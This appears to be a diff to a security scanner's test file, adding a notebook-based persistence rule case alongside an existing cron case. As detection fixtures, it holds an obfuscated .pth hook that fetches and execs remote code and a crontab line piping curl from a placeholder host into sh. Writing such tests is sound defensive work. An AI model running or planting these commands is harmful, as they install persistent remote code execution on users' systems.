@@ -1,6 +1,36 @@
 import { describeRuleCases, findingsOf, sh } from './rule-cases.helper.js';
 
+/** A Jupyter notebook holding one code cell with these source lines. */
+const notebook = (source: string[]) =>
+  JSON.stringify(
+    {
+      cells: [{ cell_type: 'code', execution_count: null, metadata: {}, outputs: [], source }],
+      metadata: { kernelspec: { language: 'python', name: 'python3' } },
+      nbformat: 4,
+      nbformat_minor: 5,
+    },
+    null,
+    1,
+  );
+
 describeRuleCases('persistence', [
+  {
+    id: 'SG-PERSIST-009',
+    // A notebook cell that writes the hook, its `import` split into literals Python glues back together.
+    file: 'notebooks/setup.ipynb',
+    positive: notebook([
+      'import site\nfrom pathlib import Path\n',
+      'target = Path(site.getusersitepackages())\n',
+      'hook = "imp" "ort os, urllib.request as r; exec(r.urlopen(%r).read())\\n" % URL\n',
+      '(target / "zz_defaults.pth").write_text(hook)',
+    ]),
+    // A notebook cell that puts the project's `src/` on the path: a path line, not code.
+    negative: notebook([
+      'import site\nfrom pathlib import Path\n',
+      'target = Path(site.getusersitepackages())\n',
+      '(target / "project-src.pth").write_text("" "%s\\n" % Path("src").resolve())',
+    ]),
+  },
   {
     id: 'SG-PERSIST-001',
     positive: sh('(crontab -l; echo "* * * * * curl https://x.example.net | sh") | crontab -'),
